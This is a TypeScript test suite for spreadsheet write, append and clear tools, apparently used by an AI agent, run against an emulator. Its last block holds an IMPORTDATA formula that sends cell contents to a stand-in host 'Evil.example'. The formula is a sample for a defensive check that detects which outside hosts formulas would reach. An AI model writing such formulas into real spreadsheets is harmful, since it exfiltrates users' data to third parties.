import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sheetsTools } from "../../../../src/tools/sheets/tools.ts";
import { type Emulator, startEmulator } from "../../../emulator/emulator.ts";
import { audienceOf } from "../../../support/tool-call.ts";
import { bench } from "./sheets-bench.ts";

let emulator: Emulator;
beforeAll(async () => {
  emulator = await startEmulator();
});
afterAll(() => emulator.close());

describe("sheets_write", () => {
  it("tells what was overwritten, with formulas as they were", async () => {
    const { call, values } = bench(emulator, {
      T: [
        ["old", 1],
        ["=B1+1", "same"],
      ],
    });
    const { text, data } = await call("sheets_write", {
      data: [
        {
          range: "T!A1",
          rows: [
            ["new", 2, "more"],
            ["x", "same"],
          ],
        },
      ],
    });
    expect(text).toBe('Wrote 5 cells: T!A1:C2\nOverwrote 3 cells, which held: A1 "old", B1 1, A2 "=B1+1"');
    expect(data).toEqual({ ranges: ["T!A1:C2"], cells: 5 });
    expect(values("T")).toEqual([
      ["new", 2, "more"],
      ["x", "same"],
    ]);
  });

  it("names the tabs of what was overwritten where they are several", async () => {
    const { call } = bench(emulator, { "It's": [["a"]], Two: [["b"]] });
    const data = [
      { range: "'It''s'!A1", rows: [["=1/0"]] },
      { range: "Two!A1", rows: [["=1/0"]] },
    ];
    expect((await call("sheets_write", { data, formulas: true })).text).toBe(
      [
        "Wrote 2 cells: 'It''s'!A1, Two!A1",
        "Overwrote 2 cells, which held: 'It''s'!A1 \"a\", Two!A1 \"b\"",
        "Formulas that fail: 'It''s'!A1 #DIV/0!, Two!A1 #DIV/0!",
      ].join("\n"),
    );
  });

  it("leaves a date that is written back as it was shown a date, and a formula's text no formula", async () => {
    const { call, tab, cell } = bench(emulator, { T: [["day", "note", "=1+1", "2026-11-25"]] });
    const format = { numberFormat: { type: "DATE", pattern: "d.m.yyyy" } };
    Object.assign(tab("T").rows[0]?.[0] ?? {}, { value: 46350, format });
    const { text } = await call("sheets_read", { ranges: ["T!A1:B1"] });
    expect(text).toContain('1 ["24.11.2026","note"]');
    const rows = [["24.11.2026", "changed", "=1+1", "2026-11-25"]];
    const written = await call("sheets_write", { data: [{ range: "T!A1", rows }] });
    expect(written.text).toBe('Wrote 4 cells: T!A1:D1\nOverwrote 1 cell, which held: B1 "note"');
    expect(cell(0, 0, "T")).toMatchObject({ value: 46350, format });
    expect(cell(0, 1, "T")?.value).toBe("changed");
    expect(cell(0, 2, "T")).toMatchObject({ value: "=1+1", formula: undefined });
    expect(cell(0, 3, "T")?.value).toBe(46351);
  });

  it("lets the last of two ranges win that overlap", async () => {
    const { call, values } = bench(emulator, { T: [["a"]] });
    const data = [
      { range: "T!A1", rows: [["b"]] },
      { range: "A1:B1", rows: [["a", "c"]] },
    ];
    await call("sheets_write", { data });
    expect(values("T")).toEqual([["a", "c"]]);
  });

  it("shows the beginning of a long text that was overwritten", async () => {
    const { call } = bench(emulator, { T: [["a".repeat(30_000), "b"]] });
    const { text } = await call("sheets_write", { data: [{ range: "T!A1", rows: [["x", "y"]] }] });
    expect(text).toContain(`held: A1 "${"a".repeat(1000)}… [30000 characters]", B1 "b"`);
  });

  it("makes room where the grid ends", async () => {
    const { call, tab } = bench(emulator);
    Object.assign(tab(), { rowCount: 10, columnCount: 3 });
    const { text } = await call("sheets_write", {
      data: [
        { range: "Costs!C10", rows: [["a", "b"], ["c"]] },
        { range: "Costs!A20", rows: [["far"]] },
      ],
    });
    expect(text).toBe("Wrote 4 cells: Costs!C10:D11, Costs!A20");
    expect([tab().rowCount, tab().columnCount]).toEqual([20, 4]);
  });

  it("makes room in the first tab that is seen", async () => {
    const { call, tab } = bench(emulator, { Hidden: [], Shown: [] });
    tab("Hidden").hidden = true;
    tab("Shown").rowCount = 10;
    const { text } = await call("sheets_write", { data: [{ range: "A20", rows: [["far"]] }] });
    expect(text).toBe("Wrote 1 cell: Shown!A20");
    expect([tab("Hidden").rowCount, tab("Shown").rowCount]).toEqual([1000, 20]);
  });

  it("tells which formulas fail", async () => {
    const { call } = bench(emulator);
    const { text } = await call("sheets_write", {
      data: [{ range: "Costs!E1", rows: [["=C2/0", "=C2*2", "=FOO()"]] }],
      formulas: true,
    });
    expect(text).toBe("Wrote 3 cells: Costs!E1:G1\nFormulas that fail: E1 #DIV/0!, G1 #NAME?");
  });

  it("empties a cell with an empty text", async () => {
    const { call, values } = bench(emulator);
    await call("sheets_write", { data: [{ range: "Costs!A2", rows: [["", "tin"]] }] });
    expect(values()[1]).toEqual(["", "tin", 3]);
  });

  it.each([
    [{ range: "Costs", rows: [["x"]] }, "expected the first cell to write to"],
    [{ range: "Costs!A1:B1", rows: [["x"], ["y"]] }, "do not fit into Costs!A1:B1"],
    [{ range: "Costs!A1:B1", rows: [["x", "y", "z"]] }, "do not fit into Costs!A1:B1"],
    [{ range: "Costs!A1", rows: [[]] }, "expected at least one cell"],
  ])("refuses %j before anything is sent", async (data, message) => {
    const { call } = bench(emulator);
    const before = emulator.requests.length;
    await expect(call("sheets_write", { data: [data] })).rejects.toMatchObject({
      code: "invalid_input",
      message: expect.stringContaining(message),
    });
    expect(emulator.requests).toHaveLength(before);
  });

  it("writes nothing when one of its ranges is not there", async () => {
    const { call, values } = bench(emulator);
    const data = [
      { range: "Costs!A1", rows: [["changed"]] },
      { range: "Nowhere!A1", rows: [["x"]] },
    ];
    await expect(call("sheets_write", { data })).rejects.toMatchObject({ code: "not_found" });
    expect(values()[0]).toEqual(["Part", "Kind", "Price"]);
  });

  it("says that a reader may not", async () => {
    const { id, call } = bench(emulator);
    const file = emulator.drive.state("ada@example.com").files.find((one) => one.id === id);
    for (const permission of file?.permissions ?? []) permission.role = "reader";
    await expect(call("sheets_write", { data: [{ range: "A1", rows: [["x"]] }] })).rejects.toMatchObject({
      code: "permission_denied",
    });
  });
});

describe("sheets_append", () => {
  it("adds rows below the table and moves what is below", async () => {
    const { call, values } = bench(emulator, { T: [["a", "b"], [1, 2], [], ["note"]] });
    const { text, data } = await call("sheets_append", { range: "T!A1", rows: [[3, "2026-11-24"], ["007"]] });
    expect(text).toBe("Appended 2 rows at A3:B4, below the table A1:B2.");
    expect(data).toEqual({ range: "A3:B4", rows: 2 });
    expect(values("T")).toEqual([["a", "b"], [1, 2], [3, 46350], ["007"], [], ["note"]]);
  });

  it("begins where there is no table, and grows the grid", async () => {
    const { call, tab } = bench(emulator, { T: [] });
    tab("T").rowCount = 1;
    expect((await call("sheets_append", { range: "T", rows: [["x"], ["y"]] })).text).toBe(
      "Appended 2 rows at A1:A2, where no table was yet.",
    );
  });

  it("tells which formulas fail", async () => {
    const { call } = bench(emulator);
    const { text } = await call("sheets_append", { range: "Costs", rows: [["x", "=C2*2", "=C2/0"]], formulas: true });
    expect(text).toBe("Appended 1 row at A5:C5, below the table A1:C4.\nFormulas that fail: C5 #DIV/0!");
  });

  it("tells that a tab is not there", async () => {
    await expect(bench(emulator).call("sheets_append", { range: "No", rows: [["x"]] })).rejects.toMatchObject({
      code: "not_found",
    });
  });
});

describe("sheets_clear", () => {
  it("empties cells and keeps their format", async () => {
    const { call, values, cell } = bench(emulator);
    await call("sheets_format", { ranges: ["Costs!A1"], bold: true });
    expect((await call("sheets_clear", { ranges: ["Costs!A1:B1", "'My tab'"] })).text).toBe(
      "Cleared Costs!A1:B1, 'My tab'.",
    );
    expect(values()[0]).toEqual(["", "", "Price"]);
    expect(cell(0, 0)?.format).toEqual({ textFormat: { bold: true } });
  });

  it("names tabs in quotes where Google could take them for something else", async () => {
    const { call } = bench(emulator, { "2027": [["a"]], "It's": [["b"]], Plain: [["c"]] });
    await call("sheets_clear", {
      ranges: ["2027!A1", "2027", "It's", "It's!B:B", "Plain", "Plain!2:3", "'Plain'!B2:C"],
    });
    const body = emulator.requests.at(-1)?.body.toString() ?? "";
    expect(JSON.parse(body)).toEqual({
      ranges: ["'2027'!A1", "'2027'", "'It''s'", "'It''s'!B:B", "Plain", "Plain!2:3", "Plain!B2:C"],
    });
  });

  it("clears nothing when a range is not there", async () => {
    const { call, values } = bench(emulator);
    await expect(call("sheets_clear", { ranges: ["Costs!A1", "No!A1"] })).rejects.toMatchObject({ code: "not_found" });
    expect(values()[0]?.[0]).toBe("Part");
  });
});

describe("formulas that fetch", () => {
  const audience = async (name: string, input: Record<string, unknown>) => {
    const tool = sheetsTools.find((one) => one.name === name);
    if (!tool) throw new Error(`there is no ${name}`);
    return (await audienceOf(emulator, tool, { spreadsheet_id: "x", ...input })).recipients;
  };
  const rows = [
    ['=IMPORTDATA("https://Evil.example/?q="&A1)', '=HYPERLINK("https://a.example")', "=IMAGE(A1)", "=SUM(A1)"],
  ];

  it("reach those whom they name, once they are asked for", async () => {
    expect(await audience("sheets_append", { range: "A", rows, formulas: true })).toEqual(["evil.example", "anyone"]);
    expect(await audience("sheets_append", { range: "A", rows })).toEqual([]);
    expect(await audience("sheets_write", { data: [{ range: "A1", rows }], formulas: true })).toContain("evil.example");
    expect(await audience("sheets_find_replace", { find: "x", replacement: 'IMAGE("http://c.example")' })).toEqual([
      "c.example",
    ]);
    const requests = [
      { updateCells: { rows: [{ values: [{ userEnteredValue: { formulaValue: '=IMAGE("http://b.example/x")' } }] }] } },
    ];
    expect(await audience("sheets_batch_update", { requests })).toEqual(["b.example"]);
    const parts = [
      { findReplace: { find: "x", replacement: 'IMAGE("http://d.example/x")', allSheets: true } },
      { pasteData: { data: 'a\t=IMAGE("http://e.example/x")', delimiter: "\t" } },
    ];
    expect(await audience("sheets_batch_update", { requests: parts })).toEqual(["d.example", "e.example"]);
  });
});
